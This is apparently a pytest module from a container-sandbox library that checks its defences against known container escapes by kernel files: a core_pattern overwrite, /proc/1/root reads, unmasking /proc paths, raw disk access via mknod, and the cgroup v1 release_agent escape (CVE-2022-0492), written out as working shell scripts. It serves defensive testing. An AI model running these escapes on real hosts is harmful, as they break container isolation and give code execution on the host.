"""Ways out by the kernel's own files: /proc, /sys, devices, cgroups."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from labkit.linux.flags import CAP
from labkit.primitives.cgroups.device_rules import AllowDevices, FilterDevices
from labkit.primitives.hidden_paths import HidePaths, ProtectPaths
from tests.escapes.book import (
    Attack,
    all_capabilities,
    no_namespace,
    no_seccomp,
    with_capability,
    without,
)
from tests.escapes.outside import Outside
from tests.kernel.bundles import Bundle, with_cgroup

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
TIMERS = "/proc/timer_list"


def by_core_pattern(bundle: Bundle, outside: Outside) -> bool:
    """Whoever writes this file chooses what the host runs when a program crashes."""
    before, evil = CORE_PATTERN.read_text(), f"|{outside.directory}/evil"
    try:
        bundle.run("sh", "-c", f"echo '{evil}' > {CORE_PATTERN}")
        return evil in CORE_PATTERN.read_text()
    finally:
        if CORE_PATTERN.read_text() != before:
            CORE_PATTERN.write_text(before)


def by_proc_1_root(bundle: Bundle, outside: Outside) -> bool:
    """/proc/1/root is the root directory of process 1: whose?"""
    return outside.secret in bundle.run("cat", f"/proc/1/root{outside.file}")


def by_what_is_masked(bundle: Bundle, outside: Outside) -> bool:
    """The host's timers, with the names of its processes."""
    return "clock" in bundle.run("cat", TIMERS)


def by_taking_the_mask_off(bundle: Bundle, outside: Outside) -> bool:
    """A mask is a mount, and a mount can be taken away by whoever may mount."""
    return "clock" in bundle.run("sh", "-c", f"busybox umount {TIMERS}; cat {TIMERS}")


def by_a_device_of_her_own(bundle: Bundle, outside: Outside) -> bool:
    """A device is a file with two numbers: these are those of a disk."""
    with_cgroup(bundle, "device")
    major, minor = _a_disk(outside.directory / "disk")
    read = f"mknod /disk b {major} {minor}; dd if=/disk of=/dev/null bs=512 count=1"
    return "1+0 records in" in bundle.run("sh", "-c", read)


def by_release_agent(bundle: Bundle, outside: Outside) -> bool:
    """A cgroup v1 hierarchy runs a program of the host's when a group gets empty."""
    out = outside.directory / "out"
    agent = bundle.path / "rootfs" / "agent"
    agent.write_text(f"#!/bin/sh\necho out > {out}\n")
    agent.chmod(0o755)
    # A name of its own: a hierarchy that is there already may be mounted by many.
    name = f"labkit-{outside.secret[:8]}"
    bundle.run("sh", "-c", _RELEASE.format(agent=agent, name=name))
    return _appears(out)


def _a_disk(node: Path) -> tuple[int, int]:
    # One that root outside can read: else it would be no wall of ours that holds.
    for number in sorted(os.listdir("/sys/dev/block")):
        major, minor = map(int, number.split(":"))
        os.mknod(node, stat.S_IFBLK | 0o600, os.makedev(major, minor))
        try:
            with node.open("rb") as file:
                if file.read(1):
                    return major, minor
        except OSError:
            continue
        finally:
            node.unlink()
    pytest.skip("disk: there is none that root can read")


def _appears(path: Path) -> bool:
    # Linux starts the agent a moment after the group has become empty.
    deadline = time.monotonic() + 1.0
    while not path.exists():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


_RELEASE = """
mkdir -p /h && mount -t cgroup -o none,name={name} none /h || exit
mkdir -p /h/x && echo 1 > /h/x/notify_on_release && echo {agent} > /h/release_agent
sh -c 'echo 0 > /h/x/cgroup.procs'
for n in 1 2 3 4 5 6 7 8 9; do busybox rmdir /h/x && break; sleep 0.2; done
"""

ATTACKS = (
    Attack(
        "core_pattern",
        "since containers have a /proc",
        by_core_pattern,
        {"ProtectPaths": without(ProtectPaths)},
    ),
    Attack(
        "/proc/1/root",
        "since containers have a /proc",
        by_proc_1_root,
        {"a PID namespace": no_namespace("pid"), "capabilities": all_capabilities},
    ),
    Attack(
        "what is masked",
        "CVE-2016-8867 and others",
        by_what_is_masked,
        {"HidePaths": without(HidePaths)},
    ),
    Attack(
        "taking the mask off",
        "--privileged",
        by_taking_the_mask_off,
        {"capabilities": all_capabilities, "seccomp": no_seccomp},
    ),
    Attack(
        "a device of her own",
        "since containers have CAP_MKNOD",
        by_a_device_of_her_own,
        {"device rules": without(AllowDevices, FilterDevices)},
    ),
    Attack(
        "release_agent",
        "CVE-2022-0492",
        by_release_agent,
        {
            "capabilities": with_capability(CAP.SYS_ADMIN),
            "seccomp": no_seccomp,
            "a cgroup namespace": no_namespace("cgroup"),
        },
    ),
)
